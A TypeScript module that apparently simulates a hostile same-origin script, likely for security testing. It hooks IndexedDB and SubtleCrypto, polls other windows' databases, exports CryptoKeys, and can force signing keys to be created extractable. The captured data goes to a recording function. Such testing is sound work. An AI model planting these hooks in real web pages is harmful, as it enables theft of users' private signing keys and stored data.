import type { Hostile } from './hostile-script.js'

/**
 * The part of the hostile script that is after keys, and after what is bound to them. With `bringsKey` it no
 * longer only watches: every key of signatures is made as one that it can read.
 */
export function hostileKeys(bringsKey: boolean): void {
  const { note, sitOn } = (globalThis as unknown as { hostile: Hostile }).hostile

  for (const name of ['put', 'add'] as const) {
    sitOn(IDBObjectStore.prototype, name, (_, parameters) => note('IndexedDB', parameters))
  }
  const readKeys = (value: unknown): void => {
    if (value instanceof CryptoKey) {
      for (const format of ['jwk', 'pkcs8'] as const) {
        void crypto.subtle.exportKey(format, value).then((key) => note('exported key', key), String)
      }
    } else if (typeof value === 'object' && value !== null) Object.values(value).forEach(readKeys)
  }
  // What other windows of this origin write, a bridge page above all, is read where they leave it.
  const databases = new Map<string, IDBDatabase>()
  const openDatabase = IDBFactory.prototype.open
  sitOn(IDBFactory.prototype, 'open', (_, [name], result) =>
    (result as IDBOpenDBRequest).addEventListener('success', () => {
      if (databases.has(name as string)) return
      const own = openDatabase.call(indexedDB, name as string)
      own.onsuccess = () => {
        databases.set(name as string, own.result)
        own.result.onversionchange = () => {
          own.result.close()
          databases.delete(name as string)
        }
      }
    }),
  )
  setInterval(() => {
    for (const database of databases.values()) {
      for (const store of database.objectStoreNames) {
        const read = database.transaction(store).objectStore(store).getAll()
        read.onsuccess = () => {
          note('IndexedDB', read.result)
          readKeys(read.result)
        }
      }
    }
  }, 50)
  if (bringsKey) {
    const generateKey = SubtleCrypto.prototype.generateKey as (
      this: SubtleCrypto,
      ...parameters: unknown[]
    ) => Promise<CryptoKeyPair>
    Object.defineProperty(SubtleCrypto.prototype, 'generateKey', {
      value(this: SubtleCrypto, algorithm: unknown, _extractable: unknown, usages: readonly string[]) {
        return generateKey.call(this, algorithm, usages.includes('sign'), usages)
      },
      configurable: true,
      writable: true,
    })
  }
  sitOn(SubtleCrypto.prototype, 'generateKey', (_, parameters, result) => {
    note('key', parameters)
    void (result as Promise<CryptoKeyPair | CryptoKey>).then(readKeys, String)
  })
  for (const name of ['sign', 'importKey', 'encrypt', 'decrypt'] as const) {
    sitOn(SubtleCrypto.prototype, name, (_, parameters, result) => {
      for (const parameter of parameters) note(`crypto ${name}`, parameter)
      void (result as Promise<unknown>).then((made) => note(`crypto ${name}`, made), String)
    })
  }
}
